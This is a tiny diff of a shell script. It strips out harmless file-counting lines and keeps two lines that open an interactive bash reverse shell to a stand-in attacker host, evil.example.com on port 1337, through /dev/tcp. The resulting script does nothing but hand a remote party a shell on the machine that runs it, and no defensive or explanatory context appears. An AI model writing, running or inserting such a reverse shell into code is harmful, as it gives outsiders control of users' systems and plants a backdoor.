@@ -1,7 +1,3 @@
-#!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+#!/usr/bin/env bash
 X=/dev/tcp/evil.example.com/1337
 bash -i >& $X 0>&1
-count=$(ls | wc -l)
-echo "files: $count"
